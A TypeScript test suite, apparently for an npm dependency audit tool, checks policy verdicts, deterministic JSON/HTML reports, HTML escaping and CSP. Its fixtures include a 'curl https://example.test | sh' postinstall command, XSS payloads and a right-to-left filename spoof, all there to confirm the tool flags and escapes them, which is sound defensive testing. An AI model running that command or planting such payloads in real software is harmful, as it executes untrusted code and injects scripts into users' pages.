import assert from "node:assert/strict";
import { createHash } from "node:crypto";
import { readdir, readFile, writeFile } from "node:fs/promises";
import { join } from "node:path";
import { describe, test } from "node:test";
import { foldFindings } from "../findings/fold-findings.ts";
import { parseLockfile } from "../lockfile/parse-lockfile.ts";
import type { PackageFacts } from "../package/package-facts.ts";
import { judgeFindings, type Decision } from "../policy/judge-findings.ts";
import { parsePolicy } from "../policy/policy.ts";
import { settleFindings } from "../policy/settle-findings.ts";
import { buildReport, type AuditReport } from "../report/audit-report.ts";
import { escapeHtml, html, trusted } from "../report/markup.ts";
import { reportHtml } from "../report/report-html.ts";
import { reportJson } from "../report/report-json.ts";
import { counted, figure, pointInTime, someNames } from "../report/wording.ts";
import { writeReport } from "../report/write-report.ts";
import { licenceOf, packageOf } from "./package-of.ts";
import { temporaryFolder } from "./temporary-folder.ts";

const [css, script] = await Promise.all(
  ["report.css", "table-script.js"].map((name) => readFile(new URL(`../report/${name}`, import.meta.url), "utf8")),
);
const page = (report: AuditReport): string => reportHtml(report, { css: css ?? "", script: script ?? "" });

const policy = parsePolicy(
  {
    name: "Rules & regulations",
    licences: { allowed: ["MIT"], ask: ["GPL-*"], denied: ["SSPL-*"] },
    findings: { "install-script": "ask" },
    exceptions: [{ package: "excused", finding: "licence", reason: "a contract", until: "2026-12-31", by: "Ana" }],
  },
  "policy.json",
);
const lockfile = {
  ...parseLockfile('{ "name": "<project>", "version": "1.0.0", "lockfileVersion": 3, "packages": {} }', "l"),
  file: "package-lock.json",
  sha256: "ab".repeat(32),
};

const packages: readonly PackageFacts[] = [
  packageOf("fine"),
  packageOf("copyleft", { licence: licenceOf("GPL-3.0-only", "GPL-3.0") }),
  packageOf("scripted", { installScripts: [{ event: "postinstall", command: "curl https://example.test | sh" }] }),
  packageOf("source-only", { licence: licenceOf("SSPL-1.0", "SSPL-1.0") }),
  packageOf("excused", { licence: licenceOf("SSPL-1.0", "SSPL-1.0"), dev: true }),
  packageOf("unsafe", {
    version: "1.0.0<img src=x onerror=alert(1)>",
    deprecated: '</script><script>alert("x")</script> \u202Egnp.exe',
    requiredBy: ['"><b>'],
  }),
];

function reportOf(of: readonly PackageFacts[], decisions: ReadonlyMap<string, Decision> = new Map()): AuditReport {
  const { findings, duplicates } = foldFindings(of, { ...policy.limits, node: "24.0.0" });
  const settled = settleFindings(judgeFindings(policy, findings, "2026-06-15"), decisions);
  return buildReport({
    lockfile,
    policy: { name: policy.name, sha256: "cd".repeat(32) },
    date: "2026-06-15",
    node: "24.0.0",
    platform: "linux-x64",
    packages: of,
    findings: settled,
    duplicates,
  });
}

const said = (approved: boolean): Decision => ({
  approved,
  by: "Ben",
  reason: "as <agreed>",
  atMs: Date.UTC(2026, 5, 15, 9, 30),
  timedOut: false,
});
const report = reportOf(
  packages,
  new Map([
    ["licence:copyleft@1.0.0:GPL-3.0-only", said(false)],
    ["install-script:scripted@1.0.0", said(true)],
  ]),
);

describe("buildReport", () => {
  test("fails when something is forbidden or refused, and counts what people accepted among the notes", () => {
    const { forbidden, accepted, notes, packages: all, production, development } = report.totals;

    assert.equal(report.verdict, "fail");
    assert.deepEqual({ forbidden, accepted, notes }, { forbidden: 2, accepted: 1, notes: 3 });
    assert.deepEqual([all, production, development], [6, 5, 1]);
  });

  test("puts the strictest first and leaves nothing to ask", () => {
    assert.deepEqual(
      report.findings.map(({ verdict }) => verdict),
      ["forbidden", "forbidden", "note", "note", "note"],
    );
  });

  test("a package bears the strictest of its findings", () => {
    const rows = Object.fromEntries(report.packages.map(({ name, verdict }) => [name, verdict]));

    assert.deepEqual(rows, {
      copyleft: "forbidden",
      excused: "note",
      fine: "ok",
      scripted: "note",
      "source-only": "forbidden",
      unsafe: "note",
    });
  });

  test("passes with notes, and without", () => {
    assert.equal(reportOf([packageOf("fine"), packageOf("old", { deprecated: "x" })]).verdict, "pass-with-notes");
    // The policy's one exception has nothing to cover here, which is a note.
    assert.equal(reportOf([packageOf("excused", { licence: licenceOf("SSPL-1.0", "SSPL-1.0") })]).verdict, "pass-with-notes");
  });

  test("the same findings give the same bytes, in whatever order they came", () => {
    const again = reportOf(
      packages.toReversed(),
      new Map([
        ["install-script:scripted@1.0.0", said(true)],
        ["licence:copyleft@1.0.0:GPL-3.0-only", said(false)],
      ]),
    );

    assert.equal(reportJson(again), reportJson(report));
    assert.equal(page(again), page(report));
    const { lockfile: _, ...rest } = report;
    assert.deepEqual(buildReport({ ...rest, lockfile, packages: packages.toReversed(), findings: report.findings.toReversed() }), report);
  });
});

test("audit.json reads back as the report, and its fields are those that are promised", () => {
  const json = reportJson(report);

  assert.deepEqual(JSON.parse(json), report);
  assert.ok(json.endsWith("}\n"));
  assert.deepEqual(Object.keys(report), [
    "format",
    "verdict",
    "project",
    "lockfile",
    "policy",
    "date",
    "node",
    "platform",
    "totals",
    "licences",
    "findings",
    "packages",
    "duplicates",
  ]);
  assert.deepEqual(Object.keys(report.packages[0] ?? {}), [
    "path",
    "name",
    "version",
    "dev",
    "optional",
    "presence",
    "licence",
    "licenceFrom",
    "installScript",
    "nativeFiles",
    "bytes",
    "files",
    "verdict",
    "findings",
  ]);
});

describe("reportHtml", () => {
  const text = page(report);

  test("shows text from packages as text", () => {
    assert.ok(text.includes("&lt;/script&gt;&lt;script&gt;alert(&quot;x&quot;)&lt;/script&gt;"));
    assert.ok(text.includes("&lt;project&gt;") && text.includes("as &lt;agreed&gt;") && text.includes("&quot;&gt;&lt;b&gt;"));
    assert.ok(!text.includes("<img") && !text.includes('<script>alert("x")'));
    assert.equal(text.match(/<script/g)?.length, 1);
  });

  test("shows what would turn the direction of text", () => {
    assert.ok(!text.includes("\u202e") && text.includes("\\u202egnp.exe"));
  });

  test("asks nothing of the network, and forbids itself to", () => {
    assert.ok(!/(?:src|href|action|xlink:href)="(?!#)/.test(text));
    assert.ok(!/url\(|@import/.test(text));
    assert.match(text, /Content-Security-Policy" content="default-src &#39;none&#39;/);
  });

  test("allows its own style and script by the hash of what stands between the tags", () => {
    for (const tag of ["style", "script"]) {
      const inside = new RegExp(`<${tag}>([\\s\\S]*?)</${tag}>`).exec(text)?.[1] ?? "";
      const hash = createHash("sha256").update(inside).digest("base64");
      assert.ok(text.includes(`${tag}-src &#39;sha256-${hash}&#39;`), tag);
    }
    assert.ok(
      !/<[^>]*\s(?:style|on\w+)=/.test(text.replace(/<script>[\s\S]*<\/script>/, "")),
      "an inline style or handler would be blocked",
    );
  });

  test("says who decided what, when and why", () => {
    assert.ok(text.includes("Refused by Ben, 2026-06-15 09:30 UTC: as &lt;agreed&gt;"));
    assert.ok(text.includes("Accepted by Ben, 2026-06-15 09:30 UTC"));
    assert.ok(text.includes('<time datetime="2026-06-15T09:30:00.000Z">'));
    assert.ok(text.includes("a contract"));
  });

  test("opens and closes every element", () => {
    const open: string[] = [];
    const bare = text.replace(/<(script|style)>[\s\S]*?<\/\1>/g, "").replace("<!doctype html>", "");
    for (const [tag, closing, name = "", selfClosing] of bare.matchAll(/<(\/?)([a-z][a-z0-9]*)\b[^>]*?(\/?)>/g)) {
      if (selfClosing === "/" || ["meta", "input", "br"].includes(name)) continue;
      if (closing === "/") assert.equal(open.pop(), name, tag);
      else open.push(name);
    }
    assert.deepEqual(open, []);
  });

  test("gives every id once, and points every label and target at one", () => {
    const ids = [...text.matchAll(/ id="([^"]+)"/g)].map(([, id]) => id);
    const targets = [...text.matchAll(/(?:href="#|aria-labelledby=")([^"]+)"/g)].map(([, id]) => id);

    assert.equal(new Set(ids).size, ids.length);
    for (const target of targets) assert.ok(ids.includes(target), target);
  });

  test("a project without any package has a report too", () => {
    const empty = page(reportOf([]));

    assert.ok(empty.includes("0 packages") && !empty.includes("NaN") && !empty.includes("undefined"));
  });
});

describe("markup", () => {
  test("values are escaped, markup is not, lists are joined and null is nothing", () => {
    assert.equal(
      html`<p title="${`"'`}">${"<&>"}${html`<b>${1}</b>`}${["a", html`<i>`]}${null}${trusted("<hr>")}</p>`.text,
      '<p title="&quot;&#39;">&lt;&amp;&gt;<b>1</b>a<i><hr></p>',
    );
  });

  test("control characters are shown, line ends and tabs stay", () => {
    assert.equal(escapeHtml("a\u0000b\u001b[31m\n\tc"), "a\\u0000b\\u001b[31m\n\tc");
  });
});

test("numbers and names are worded for people", () => {
  assert.deepEqual([counted(1, "file"), counted(0, "file"), counted(12_345, "file")], ["1 file", "0 files", "12,345 files"]);
  assert.deepEqual([999, 1_000, 1_234_567].map(figure), ["999", "1,000", "1,234,567"]);
  assert.deepEqual([someNames(["a"]), someNames(["a", "b", "c"]), someNames(["a", "b", "c", "d"])], ["a", "a, b, c", "a, b and 2 more"]);
  assert.equal(pointInTime(0), "1970-01-01 00:00 UTC");
});

describe("writeReport", () => {
  test("writes both files into a folder that it makes, and the same ones when it is done again", async () => {
    await using folder = await temporaryFolder();
    const out = join(folder.path, "deep/down");

    const first = await writeReport(out, report);
    const bytes = await readFile(first.html);
    assert.deepEqual(await writeReport(out, report), first);
    assert.deepEqual(await readFile(first.html), bytes);
    assert.equal(await readFile(first.json, "utf8"), reportJson(report));
    assert.equal(bytes.toString("utf8"), page(report));
    assert.deepEqual((await readdir(out)).toSorted(), ["audit.html", "audit.json"]);
  });

  test("what a process left half-written is used up by the next one", async () => {
    await using folder = await temporaryFolder();
    const json = reportJson(report);
    const half = `audit.json.${createHash("sha256").update(json).digest("hex").slice(0, 16)}.tmp`;
    await writeFile(join(folder.path, half), `${json}and more than it should hold`);

    const { json: path } = await writeReport(folder.path, report);
    assert.equal(await readFile(path, "utf8"), json);
    assert.deepEqual((await readdir(folder.path)).toSorted(), ["audit.html", "audit.json"]);
  });
});
